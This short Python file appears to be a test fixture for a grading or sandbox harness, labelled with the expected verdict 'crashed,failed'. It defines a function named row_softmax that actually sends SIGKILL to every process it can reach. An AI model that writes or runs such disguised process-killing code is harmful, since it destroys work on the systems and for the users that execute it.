# Kills every process that it may.
# verdict: crashed,failed
import os, signal

def row_softmax(x):
    os.kill(-1, signal.SIGKILL)
    return x
